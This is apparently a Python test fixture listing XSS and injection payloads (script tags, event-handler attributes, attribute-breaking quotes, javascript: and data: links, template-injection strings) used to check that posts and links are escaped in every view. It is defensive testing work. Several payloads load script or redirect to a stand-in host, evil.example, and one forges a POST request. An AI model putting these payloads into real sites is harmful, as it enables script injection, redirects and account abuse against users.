"""Posts that try to become code in whoever reads them: at least a hundred, for every view and the real browser."""

from tests.alerts.hostile import TEXTS

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type='text/javascript'>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<script type=module>import('//evil.example')</script>",
    "<script>fetch('/silences',{method:'POST'})</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<script>alert`1`</script>",
)
_TAGS = ("img", "svg", "body", "video", "audio", "input", "details", "marquee", "iframe", "object", "math", "select")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_HANDLERS = tuple(f"<{tag} src=x {event}=alert(1) autofocus open>" for tag in _TAGS for event in _EVENTS)
_QUOTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '"/><svg/onload=alert(1)>',
    '" style="position:fixed;inset:0" x="',
    "' autofocus onfocus='alert(1)' x='",
    '"></p></article></main><h1>gone</h1>',
    "--><img src=x onerror=alert(1)>",
)
_MARKUP = (
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><button autofocus>log in</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<template><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src='javascript:alert(1)'>",
    "<!--[if IE]><script>",
    "{{ 7*7 }}{% import os %}",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "<p data-live id=banner>",
    "<div id=content data-key=x>",
    "<x data-chart='//evil.example'>",
)

_ACCEPTED = tuple(text for text in TEXTS if text.encode("utf-8", "ignore").decode() == text)
"""Without lone surrogates: no such text is ever accepted."""

POSTS: tuple[str, ...] = (*_SCRIPTS, *_HANDLERS, *_QUOTES, *_MARKUP, *_ACCEPTED)
LINKS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example",
    "http:evil.example",
    "https:///x",
    "blob:https://x",
    "http://user:word@evil.example",
    'https://x.example/"onmouseover="alert(1)',
    "https://x.example/<script>",
    "about:blank",
    "HTTPS:\\evil",
    "",
)
